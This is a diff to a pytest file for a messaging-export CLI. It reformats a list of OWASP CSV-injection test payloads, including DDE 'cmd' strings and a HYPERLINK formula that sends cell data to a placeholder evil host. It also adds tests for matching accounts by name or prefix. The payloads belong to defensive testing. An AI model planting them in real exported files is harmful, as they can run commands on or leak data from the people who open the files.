@@ -237,11 +237,11 @@ def test_csv_neutralises_formulas() -> None:
 # The OWASP CSV-injection cheat sheet's payloads, and variations on phones and handles.
 OWASP_PAYLOADS = (
     "=cmd|' /C calc'!A0",
-    "=HYPERLINK(\"http://evil.invalid?x=\"&A1,\"Click\")",
+    '=HYPERLINK("http://evil.invalid?x="&A1,"Click")',
     "+cmd|' /C calc'!A0",
     "-cmd|' /C calc'!A0",
     "@SUM(1+9)*cmd|' /C calc'!A0",
-    "=1+2\";=1+2",
+    '=1+2";=1+2',
     "=1+2'\" ,,=1+2",
     "+1+1",
     "+44 7533 813808",
@@ -441,10 +441,44 @@ def test_unknown_account(demo_app: Starlette, capsys: pytest.CaptureFixture[str]
     assert run(demo_app, "--account", "no-such-account", "--format", "csv") == 1
     out, err = capsys.readouterr()
     assert out == ""
-    assert error_lines(err) == [
-        "beeper-tui export: error: "
-        "Account not found (HTTP 404 from GET /v1/accounts/no-such-account)"
-    ]
+    lines = error_lines(err)
+    assert len(lines) == 1
+    assert lines[0].startswith(
+        "beeper-tui export: error: --account 'no-such-account' matches no account; choose one of: "
+    )
+    assert "telegram (Telegram · " in lines[0]
+
+
+def test_account_by_network_name(
+    demo_app: Starlette, small_dataset: Dataset, out_dir: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    target = out_dir / "wa.csv"
+    assert run(demo_app, "--account", "whatsapp", "--format", "csv", "-o", str(target)) == 0
+    assert capsys.readouterr().err == ""
+    rows = read_csv(target)
+    whatsapp = account_id(small_dataset, "whatsapp")
+    assert whatsapp.startswith("local-whatsapp_")
+    assert {r["account_id"] for r in rows} == {whatsapp}
+    assert len(rows) == contact_count(small_dataset, "whatsapp")
+    phones = [r["phone"] for r in rows if r["phone"]]
+    assert phones
+    assert all(p.startswith("+") for p in phones)
+
+
+def test_account_by_unique_prefix_and_ambiguous(
+    demo_app: Starlette, small_dataset: Dataset, out_dir: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    target = out_dir / "tg.csv"
+    assert run(demo_app, "--account", "tele", "--format", "csv", "-o", str(target)) == 0
+    assert {r["account_id"] for r in read_csv(target)} == {account_id(small_dataset, "telegram")}
+    capsys.readouterr()
+    # "i" starts iMessage, Instagram and imessagecloud_…: the choices are listed.
+    assert run(demo_app, "--account", "i", "--format", "csv") == 1
+    (line,) = error_lines(capsys.readouterr().err)
+    assert "matches more than one account; choose one of:" in line
+    assert "(iMessage · " in line
+    assert "(Instagram · " in line
+    assert "(Telegram · " not in line
 
 
 def test_cannot_connect(out_dir: Path, capsys: pytest.CaptureFixture[str]) -> None:
